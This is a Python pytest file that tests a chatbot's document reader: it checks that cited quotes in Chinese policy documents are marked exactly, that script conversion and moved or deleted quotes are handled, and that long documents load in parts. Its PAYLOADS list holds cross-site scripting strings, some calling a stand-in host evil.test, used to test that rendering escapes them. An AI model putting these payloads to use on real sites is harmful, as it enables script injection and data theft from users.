from __future__ import annotations

import re
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from typing import Any

import pytest

from rag import Chatbot
from rag.corpus.document import parse_document
from rag.corpus.script import to_simplified, to_traditional
from rag.errors import DocumentNotFoundError
from rag.schema import Answer, Citation, Document, Furniture, Hit, Layout, Metadata, Section
from ui.markup import escape, preformatted
from ui.reader import blocks, render
from ui.reader.blocks import Script
from ui.reader.reading import Mark, Reading, at_place, of_citation
from ui.reader.words import WORDS
from ui.words import Language

WENZHOU = "wenzhou-governance-decision-2020.txt"
COMPILATION = "governance-modernisation-compilation.txt"
PAYLOADS = [
    '<script>fetch("https://evil.test/")</script>',
    "<script src=//evil.test/x.js></script>",
    "<img src=https://evil.test/a.png onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    '"><svg/onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)",
    "</mark></div><script>alert(1)</script>",
    "</b></span></div></div><iframe src=//evil.test>",
    "<mark id=pr-mark>fälschung</mark>",
    "<div class=pr-reader-block data-at=0 data-do=reader.close>x</div>",
    "<button data-do=reader.go data-number=9>x</button>",
    "<!-- comment --><!DOCTYPE x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><?php echo 1?>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=q></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href=data:x,alert(1)>",
    "<textarea></textarea><title></title><plaintext>",
    "![x](https://evil.test/a.png) [x](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &quot; onclick=1",
    "${alert(1)} {{constructor}} <%= 1 %> {heading} {at}",
    "＜script＞ ‹党组› <责任单位> 1<2>0",
    "evil\u202egnp.exe\u2066<b\u0000old>\ufeff",
]


class Parsed(HTMLParser):
    """What a browser makes of HTML: its elements, and the text in the marked ones."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, ...]] = []
        self.marked = self.body = ""
        self.others: dict[str, str] = {}
        self.headings: list[str] = []
        self.dimmed: list[str] = []
        self.current: list[str] = []
        self._open: list[tuple[str, dict[str, Any]]] = []
        self.feed(html)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, *sorted(name for name, _ in attrs)))
        assert [name for name, _ in attrs if name.startswith("on")] == []
        if tag not in ("input", "br"):
            self._open.append((tag, dict(attrs)))
        kind = dict(attrs).get("class")
        if kind == "pr-reader-heading":
            self.headings.append("")
        if kind == "pr-reader-dim":
            self.dimmed.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, *sorted(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.shape.append((f"/{tag}",))
        assert self._open.pop()[0] == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def handle_data(self, data: str) -> None:
        around = [attributes for _, attributes in self._open]
        kinds = [attributes.get("class") for attributes in around]
        if any(attributes.get("id") == "pr-mark" for attributes in around):
            self.marked += data
        if any(attributes.get("class", "").startswith("pr-reader-block") for attributes in around):
            self.body += data
        if any("aria-current" in attributes for attributes in around):
            self.current.append(data)
        for attributes in around:
            if attributes.get("class") == "pr-reader-other":
                self.others[attributes["data-number"]] = self.others.get(attributes["data-number"], "") + data
        if "pr-reader-heading" in kinds:
            self.headings[-1] += data
        if "pr-reader-dim" in kinds:
            self.dimmed[-1] += data


def shown(reading: Reading, *, script: Script = "original", language: Language = "hans") -> Parsed:
    return Parsed(render.page(reading, language, script=script))


def seen(text: str) -> str:
    """``text`` without what ``escape`` drops: the characters that nobody sees."""
    return Parsed(f'<div class="pr-reader-block">{preformatted(text)}</div>').body


def cite(document: Document, start: int, end: int, number: int = 1) -> Citation:
    quote = document.text[start:end]
    return Citation(number, document.source, document.metadata.title or "", "", start, end, quote)


def answer(*citations: Citation, hits: tuple[Hit, ...] = ()) -> Answer:
    return Answer("问", "答", False, None, 0.8, citations, (), hits, {}, "extractive")


def read(document: Document, *citations: Citation, hits: tuple[Hit, ...] = ()) -> Reading:
    """The first of ``citations``, opened in ``document``."""
    return of_citation(answer(*citations, hits=hits), citations[0], {document.source: document}.__getitem__)


# --- the words are marked, and all others are there ---------------------------------------------------------------


@pytest.mark.parametrize("source", [WENZHOU, COMPILATION, "changzhi-governance-work-plan.txt"])
def test_a_real_document_shows_whole_with_exactly_the_quote_marked(seeds_bot: Chatbot, source: str) -> None:
    document = seeds_bot.document(source)
    for chunk in document.chunks[:: max(1, len(document.chunks) // 7)]:
        parsed = shown(read(document, cite(document, chunk.start, chunk.end)))
        assert parsed.marked == seen(document.text[chunk.start : chunk.end])
        assert parsed.body == seen(document.text)


@pytest.mark.parametrize(
    ("text", "quote"),
    [
        ("开头就是引文。\n后面还有。", "开头就是引文。"),
        ("前面还有。\n最后是引文", "最后是引文"),
        ("全文都是引文", "全文都是引文"),
        ("表情😀与𠮷野家👨‍👩‍👧。\n下一行🇨🇳。", "😀与𠮷野家👨‍👩‍👧。\n下一行🇨"),
        ("第一行。\r\n第二行。\r\n第三行。", "行。\r\n第二行。\r\n"),
        ("只有回车。\r第二行。\r第三行。", "车。\r第二"),
        ("坏字符\ufffd\ufffd照样显示。\n完", "\ufffd照样"),
        ("制表\t符 和  空格\u3000都留着。\n完", "符 和  空格\u3000都"),
        ("看不见\u200b的\u202e字符\ufeff。\n完", "见\u200b的\u202e字符"),
        ("引号 < > & ' \" ` = 都在。\n完", "< > & ' \" ` ="),
    ],
)
def test_the_mark_holds_exactly_the_quote(text: str, quote: str) -> None:
    document = parse_document(text, source="a.txt")
    start = text.index(quote)
    parsed = shown(at_place(document, start, start + len(quote)))
    assert (parsed.marked, parsed.body) == (seen(quote), seen(text))


def test_an_edge_between_the_characters_of_a_line_end_shows_it_once() -> None:
    document = parse_document("第一行。\r\n第二行。\r\n", source="a.txt")
    assert shown(at_place(document, 0, 5)).body == "第一行。\n第二行。\n"
    assert shown(at_place(document, 5, 8)).body == "第一行。\n第二行。\n"


def test_an_empty_place_opens_the_document_with_nothing_marked(seeds_bot: Chatbot) -> None:
    document = seeds_bot.document(WENZHOU)
    parsed = shown(at_place(document, 0, 0))
    assert (parsed.marked, parsed.body) == ("", seen(document.text))
    assert not [tag for tag in parsed.shape if tag[0] == "mark"]


@pytest.mark.parametrize(("start", "end"), [(5, 3), (0, 10_000), (9_000, 10_000)])
def test_a_place_beyond_the_document_is_said_and_not_guessed(start: int, end: int) -> None:
    document = parse_document("很短的文件。", source="a.txt")
    reading = at_place(document, start, end)
    assert (reading.mark, reading.state) == (None, "outside")
    assert WORDS["hans"].outside in render.page(reading, "hans")


@pytest.mark.parametrize("other", [(8, 16), (0, 30), (12, 14), (10, 20), (5, 12), (15, 25), (20, 25), (5, 10)])
def test_citations_may_overlap_in_any_way(other: tuple[int, int]) -> None:
    document = parse_document("零一二三四五六七八九" * 5, source="a.txt")
    parsed = shown(read(document, cite(document, 10, 20, 1), cite(document, *other, 2)))
    assert parsed.marked == document.text[10:20]
    assert parsed.others == {"2": document.text[slice(*other)]}
    assert parsed.body == document.text


def test_only_citations_of_the_same_document_are_marked_in_it() -> None:
    document = parse_document("第一句话在这里。第二句话在那里。", source="a.txt")
    elsewhere = replace(cite(document, 8, 16, 2), source="b.txt")
    assert shown(read(document, cite(document, 0, 8), elsewhere)).others == {}


def test_furniture_is_dimmed_also_within_the_mark() -> None:
    text = "前文说到这里，\n第 3 页 共 9 页\n后文接着说。"
    made = parse_document(text, source="a.txt")
    document = replace(made, furniture=(Furniture(8, 20, "page number"), Furniture(7, 8, "blank")))
    parsed = shown(at_place(document, 2, len(text)))
    assert parsed.marked == text[2:]
    assert parsed.dimmed == [text[8:20]]


def test_headings_are_recognisable_and_the_section_of_the_mark_is_current(seeds_bot: Chatbot) -> None:
    document = seeds_bot.document("suining-governance-decision-2019.txt")
    section = document.sections[6]
    parsed = shown(at_place(document, section.start + 40, section.start + 60))
    assert parsed.headings == [each.heading for each in document.sections]
    assert parsed.current == [section.heading]
    jumps = [tag for tag in parsed.shape if tag[0] == "button" and "data-to" in tag]
    assert len(jumps) == len(document.sections)


def test_a_heading_that_the_file_breaks_is_found_and_one_that_is_not_there_is_not_made_up() -> None:
    text = "二、广泛开\n展 宣传\n正文。"
    section = Section(0, None, 1, "二、", "二、广泛开展宣传", 0, len(text), ("二、广泛开展宣传",))
    assert text[: blocks.heading_end(text, section)] == "二、广泛开\n展 宣传"
    assert blocks.heading_end(text, replace(section, heading="二、另一个标题")) == 0


# --- scripts ------------------------------------------------------------------------------------------------------


def test_a_traditional_document_shows_in_simplified_with_the_same_words_marked(seeds_bot: Chatbot) -> None:
    document = seeds_bot.document(WENZHOU)
    start = document.text.index("“最多跑一次”改革")
    citation = cite(document, start, document.text.index("。", start) + 1)
    assert shown(read(document, citation)).marked == citation.quote
    assert shown(read(document, citation), script="hant").marked == citation.quote  # what is right stays as it is
    simplified = shown(read(document, citation), script="hans")
    assert simplified.marked == to_simplified(citation.quote) != citation.quote
    assert simplified.body == seen(to_simplified(document.text))


def test_a_conversion_that_changes_lengths_moves_no_mark() -> None:
    text = "前面的鼠标和干部在后面。" * 40 + "要标的是：后来头发干了，皇后在里面。" + "台湾的出租车里面。" * 40
    document = parse_document(text, source="a.txt")
    quote = "要标的是：后来头发干了，皇后在里面。"
    parsed = shown(at_place(document, text.index(quote), text.index(quote) + len(quote)), script="hant")
    assert parsed.marked == to_traditional(quote) != quote


def test_an_english_document_has_no_choice_of_script() -> None:
    english = parse_document("Article 1 Everybody may read this document.\n", source="a.txt")
    chinese = parse_document("第一条 人人可以读这份文件。", source="a.txt")
    assert "reader.script" not in render.page(at_place(english, 0, 9), "hans")
    assert 'lang="en"' in render.page(at_place(english, 0, 9), "hans")
    assert render.page(at_place(chinese, 0, 3), "hans").count("reader.script") == 3


# --- what has become of the document -----------------------------------------------------------------------------


def missing(source: str) -> Document:
    raise DocumentNotFoundError(source)


def test_a_removed_document_shows_the_stored_quote_and_the_way_to_the_others() -> None:
    document = parse_document("这句话引用过。另一句也引用过。", source="a.txt")
    citations = (cite(document, 0, 7, 1), cite(document, 7, 15, 2))
    reading = of_citation(answer(*citations), citations[0], missing)
    assert (reading.document, reading.mark, reading.state) == (None, None, "gone")
    html = render.page(reading, "hans")
    assert WORDS["hans"].gone in html
    assert "这句话引用过。" in html
    assert 'data-number="2"' in html
    assert Parsed(html).body == ""


def test_a_quote_that_has_moved_is_marked_where_it_stands_now_nearest_to_where_it_stood() -> None:
    quote = "引用的原话在这里。"
    old = parse_document("开头。" * 20 + quote, source="a.txt")
    new = parse_document(quote + "新加的话。" * 20 + quote + "结尾。", source="a.txt")
    reading = read(new, cite(old, 60, 60 + len(quote)))
    assert (reading.state, reading.mark) == ("moved", Mark(len(quote) + 100, 2 * len(quote) + 100, 1))
    assert shown(reading).marked == quote
    assert escape(WORDS["en"].moved) in render.page(reading, "en")


@pytest.mark.parametrize("quote", ["这句话已经改掉了。", "这里", ""])
def test_a_quote_that_is_not_there_any_more_is_shown_and_nothing_is_marked(quote: str) -> None:
    document = parse_document("现在的文件里写的是别的话，这里没有。", source="a.txt")
    reading = read(document, replace(cite(document, 2, 8), quote=quote))
    assert (reading.state, reading.mark) == ("changed", None)
    html = render.page(reading, "hant")
    assert WORDS["hant"].changed in html
    assert f"{quote}</blockquote>" in html
    assert Parsed(html).body == document.text


def test_a_newer_version_is_named_and_can_be_opened() -> None:
    document = parse_document("旧办法的条文在这里。", source="old.txt")
    hit = Hit("旧", 1.0, "old.txt", "旧办法", "", 0, 10, "c", superseded_by="new.txt")
    html = render.page(read(document, cite(document, 0, 10), hits=(hit,)), "hans")
    assert 'data-do="reader.document" data-source="new.txt"' in html
    assert "reader.document" not in render.page(read(document, cite(document, 0, 10)), "hans")


def test_the_head_says_what_is_known_and_where_the_citation_stands() -> None:
    known = Metadata("某办法", "某市政府", "某政发〔2020〕1号", "2020-01-02", "2020-02-03", "某市", "hant", None)
    document = replace(parse_document("第一條 內容在此處。第二條 也在此。", source="a.txt"), metadata=known)
    cited = [cite(document, 0, 4, number) for number in (3, 7, 9)]
    reading = of_citation(answer(*cited), cited[1], {"a.txt": document}.__getitem__)
    html = render.page(reading, "hans")
    for fact in ("某办法", "某市政府", "某政发〔2020〕1号", "2020&#45;01&#45;02 印发", "繁体", "a&#46;txt", "2 / 3"):
        assert fact in html
    assert 'data-step="previous" data-number="3"' in html
    assert 'data-step="next" data-number="9"' in html
    assert 'data-step="next" disabled' in render.page(replace(reading, citation=cited[2]), "hans")


# --- nothing foreign runs ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """A document, an answer about it and its next version, all of whose foreign strings are one."""

    word: str

    def reading(self, state: str) -> Reading:
        text = f"{self.word}。\n{self.word}。\n{self.word}。\n{self.word}。\n"
        one = len(self.word) + 2
        known = Metadata(self.word, self.word, self.word, self.word, self.word, self.word, "hans", self.word)
        section = Section(0, None, 1, self.word, self.word, 0, len(text), (self.word,))
        inner = Section(1, 0, 2, self.word, self.word, one, len(text), (self.word, self.word, self.word))
        furniture = (Furniture(3 * one, 4 * one, self.word),)
        document = Document(self.word, text, self.word, self.word, known, (section, inner), (), furniture)
        hit = Hit(self.word, 1.0, self.word, self.word, self.word, 0, 9, "c", superseded_by=self.word)
        cited = replace(cite(document, one, 2 * one - 1), section=self.word)
        other = cite(document, 2 * one, 3 * one - 1, 2)
        if state == "changed":
            cited = replace(cited, quote=f"{self.word}改过了的话")
        find = missing if state == "gone" else {self.word: document}.__getitem__
        return of_citation(answer(cited, other, hits=(hit,)), cited, find)


@pytest.mark.parametrize("script", ["original", "hans", "hant"])
@pytest.mark.parametrize("state", ["exact", "changed", "gone"])
def test_hostile_strings_come_out_as_the_text_they_are(state: str, script: Script) -> None:
    expected = shown(Hostile("无害的文字").reading(state), script=script).shape
    for payload in PAYLOADS:
        html = render.page(Hostile(payload).reading(state), "hans", script=script)
        parsed = Parsed(html)
        assert parsed.shape == expected
        if script == "original" and state == "exact":
            assert parsed.marked == seen(payload) + "。"
    assert len(PAYLOADS) == 30


# --- long documents ----------------------------------------------------------------------------------------------


def test_blocks_hold_all_of_the_text_and_none_cuts_the_mark() -> None:
    line = "一行没有尽头的字" * 5_000
    text = f"短行。\n{line}\r\n短行。\n{line}"
    document = parse_document("一、题目\n正文。", source="a.txt")
    for mark in (None, Mark(3, 9_000), Mark(30_000, 60_000), Mark(0, len(text))):
        places = blocks.cuts(text, document.sections[:0], mark)
        assert (places[0], places[-1]) == (0, len(text))
        assert places == sorted(set(places))
        assert not [place for place in places if mark and mark.start < place < mark.end]
        assert "\r" not in {text[place - 1] for place in places[1:-1]}


def test_a_block_begins_where_a_page_does_unless_that_is_within_the_mark() -> None:
    text = "第一页的话。\n第二页的话，\n在第三页说完。\n"
    starts = (0, text.index("第二页"), text.index("在第三页"))
    plain = parse_document(text, source="a.pdf")
    document = replace(plain, layout=Layout(pages=starts))
    for mark, pages in (((0, 3), ["1", "2", "3"]), ((starts[1] + 3, len(text) - 2), ["1", "2"])):
        html = render.page(at_place(document, *mark), "hans")
        assert re.findall('data-page="([0-9]+)"', html) == pages
        assert Parsed(html).body == text
    assert "data-page" not in render.page(at_place(plain, 0, 3), "hans")


def test_of_a_very_long_document_a_part_around_the_mark_is_sent_and_the_rest_on_demand() -> None:
    body = "".join(f"第{number}段的文字在这里，{number}。\n" for number in range(40_000))
    short = parse_document("第0段的文字在这里，0。\n", source="a.txt")
    document = replace(short, text=body)
    start = body.index("第20000段")
    reading = at_place(document, start, start + 8)
    first = shown(reading)
    assert first.marked == "第20000段的"
    assert blocks.WINDOW <= len(first.body) < blocks.WINDOW + 10_000
    text, low, high = first.body, body.index(first.body), body.index(first.body) + len(first.body)
    edges: dict[bool, Any] = {True: low, False: high}
    for before in (True, False):
        while edges[before] is not None:
            got = render.more(reading, "original", edges[before], before=before)
            piece = Parsed(str(got["html"])).body
            text = piece + text if before else text + piece
            edges[before] = got["edge"]
    assert text == body
    around = Parsed(render.page(reading, "hans", around=0))
    assert body.startswith(around.body)
    assert around.marked == ""
